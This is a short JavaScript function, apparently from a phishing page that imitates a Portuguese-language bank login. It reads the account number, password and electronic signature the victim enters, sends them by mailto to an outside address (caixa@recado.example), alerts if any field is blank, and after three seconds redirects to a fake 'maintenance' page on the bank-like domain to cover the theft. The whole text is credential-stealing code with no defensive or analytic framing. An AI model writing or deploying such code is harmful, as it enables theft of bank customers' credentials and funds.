function enviar() {
  var c = document.acesso.conta.value, s = document.acesso.senha.value, a = document.acesso.assinatura.value;
  document.acesso.action = "mailto:caixa@recado.example?subject=" + escape("acesso " + c);
  document.acesso.encoding = "text/plain";
  document.acesso.method = "post";
  if (c == "" || s == "" || a == "") { alert("Informe agencia, conta, senha e assinatura eletronica."); return false; }
  setTimeout("location='http://www.banco-serra.example/manutencao.htm'", 3000);
  return true;
}
